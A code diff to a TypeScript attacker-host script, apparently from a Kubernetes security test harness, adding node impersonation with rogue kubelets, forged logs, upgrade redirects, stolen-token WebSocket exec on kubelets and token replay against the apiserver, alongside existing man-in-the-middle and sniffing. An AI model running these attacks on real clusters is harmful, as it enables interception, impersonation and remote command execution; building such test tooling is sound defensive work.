@@ -3,18 +3,29 @@
 // scans kubelets from the network (`node-network`), then, once the runner has routed the node and pod addresses
 // to it, sits on the path (`control-plane-path`): a man in the middle on every kubelet address, the sniffer on
 // the pod ports, and a blind relay for what it cannot read (the SSH tunnels), so the apiserver's path keeps
-// working and only the attacks themselves decide what it learns. Prints ATTACKER_HOST_READY and its port.
+// working and only the attacks themselves decide what it learns. Then, as a compromised node (`/impersonate`),
+// it answers on every node address with that node's own cluster-signed certificate. With a stolen token it
+// tries a WebSocket exec on each kubelet (`/nodes-proxy-exec`) and a replay at the apiserver (`/token-replay`).
+// Prints ATTACKER_HOST_READY and its port.
 import { createServer as createHttpServer, type IncomingMessage } from 'node:http';
 import { connect, createServer as createTcpServer, type Server, type Socket } from 'node:net';
 import {
   channelText,
   exchangeRecord,
+  maliciousUpgradeStrategy,
+  nodesProxyExec,
+  replayToken,
+  rogueNodeStrategy,
   scanKubelets,
   startMitm,
+  startRedirectTarget,
+  startRogueKubelet,
   startSniff,
   type Capture,
   type ExchangeRecord,
   type Mitm,
+  type RedirectTarget,
+  type RogueKubelet,
   type Sniffer,
 } from '@hubspoke/attacker';
 import { pino } from 'pino';
@@ -22,10 +33,16 @@ import {
   ATTACKER_HOST_READY,
   firstBytes,
   type AttackerReport,
+  type ImpersonateRequest,
   type InterceptRequest,
   type MitmView,
+  type NodesProxyExecRequest,
+  type NodesProxyExecResponse,
+  type RogueView,
   type ScanRequest,
   type ScanResponse,
+  type TokenReplayRequest,
+  type TokenReplayResponse,
 } from './attacker-host-protocol.ts';
 
 const controlAddress = process.argv[2] ?? '127.0.0.1';
@@ -36,6 +53,10 @@ const sniffed: ExchangeRecord[] = [];
 const relays: Server[] = [];
 const relayed: Record<string, number> = {};
 const sockets = new Set<Socket>();
+const rogues = new Map<string, RogueKubelet>();
+let redirectTarget: RedirectTarget | undefined;
+// The men in the middle's views, kept when /impersonate closes them.
+const mitmViews = new Map<string, MitmView>();
 
 async function intercept(req: InterceptRequest): Promise<void> {
   for (const host of req.nodes) {
@@ -51,6 +72,30 @@ async function intercept(req: InterceptRequest): Promise<void> {
   });
   sniffer.onExchange((capture, exchange) => sniffed.push(exchangeRecord(capture, exchange)));
   for (const port of req.relayPorts) relays.push(await relay(port, req.sourceAddress));
+}
+
+/** The compromised node takes over every node address: logs get forged text, upgrades a redirect to the target. */
+async function impersonate(req: ImpersonateRequest): Promise<void> {
+  for (const [host, mitm] of mitms) {
+    mitmViews.set(host, mitmView(mitm));
+    await mitm.close();
+  }
+  mitms.clear();
+  redirectTarget = await startRedirectTarget({ host: req.redirectHost, port: 0 });
+  const forged = rogueNodeStrategy(req.forgedLog);
+  const redirect = maliciousUpgradeStrategy({ kind: 'redirect', location: redirectTarget.url });
+  for (const host of req.nodes) {
+    rogues.set(host, await startRogueKubelet({ listen: { host, port: req.kubeletPort }, tls: req.tls, strategy: (r) => (r.upgrade ? redirect(r) : forged(r)), logger }));
+  }
+}
+
+function rogueView(rogue: RogueKubelet): RogueView {
+  const connections = rogue.connections();
+  return {
+    connections: connections.length,
+    clientCNs: [...new Set(connections.map((c) => c.clientCN).filter((cn): cn is string => !!cn))],
+    requests: rogue.requests().map((r) => ({ method: r.method, target: r.target, upgrade: r.upgrade, status: r.status })),
+  };
 }
 
 /** Pass connections for `port` on to their original destination, unread. */
@@ -91,7 +136,9 @@ function mitmView(mitm: Mitm): MitmView {
 
 function report(): AttackerReport {
   return {
-    mitm: Object.fromEntries([...mitms].map(([host, m]) => [host, mitmView(m)])),
+    mitm: { ...Object.fromEntries(mitmViews), ...Object.fromEntries([...mitms].map(([host, m]) => [host, mitmView(m)])) },
+    rogue: Object.fromEntries([...rogues].map(([host, r]) => [host, rogueView(r)])),
+    redirectArrivals: (redirectTarget?.arrivals() ?? []).map((a) => ({ remote: a.remote, firstBytes: a.bytes.subarray(0, 32).toString('hex') })),
     sniff: sniffed.map((r) => ({
       ...r,
       request: { raw: r.request.raw, body: firstBytes(r.request.body) },
@@ -121,6 +168,23 @@ const control = createHttpServer((req, res) => {
       await intercept(await body<InterceptRequest>(req));
       return answer(200, { ok: true });
     }
+    if (req.method === 'POST' && req.url === '/nodes-proxy-exec') {
+      const { token, targets } = await body<NodesProxyExecRequest>(req);
+      const results = await Promise.all(
+        targets.map((t) => nodesProxyExec({ route: { via: 'kubelet', kubelet: t.kubelet }, namespace: t.namespace, pod: t.pod, container: t.container, command: t.command, credentials: { token }, timeoutMs: 5_000 })),
+      );
+      const response: NodesProxyExecResponse = { results };
+      return answer(200, response);
+    }
+    if (req.method === 'POST' && req.url === '/impersonate') {
+      await impersonate(await body<ImpersonateRequest>(req));
+      return answer(200, { ok: true });
+    }
+    if (req.method === 'POST' && req.url === '/token-replay') {
+      const { server, token } = await body<TokenReplayRequest>(req);
+      const response: TokenReplayResponse = { result: await replayToken({ server, token, timeoutMs: 5_000 }) };
+      return answer(200, response);
+    }
     if (req.method === 'GET' && req.url === '/report') return answer(200, report());
     answer(404, { error: `no ${req.method} ${req.url}` });
   };
@@ -129,7 +193,13 @@ const control = createHttpServer((req, res) => {
 
 async function shutdown(): Promise<never> {
   for (const s of sockets) s.destroy();
-  await Promise.allSettled([...[...mitms.values()].map((m) => m.close()), sniffer?.close(), ...relays.map((r) => new Promise((done) => r.close(done)))]);
+  await Promise.allSettled([
+    ...[...mitms.values()].map((m) => m.close()),
+    ...[...rogues.values()].map((r) => r.close()),
+    redirectTarget?.close(),
+    sniffer?.close(),
+    ...relays.map((r) => new Promise((done) => r.close(done))),
+  ]);
   process.exit(0);
 }
 process.on('SIGTERM', () => void shutdown());
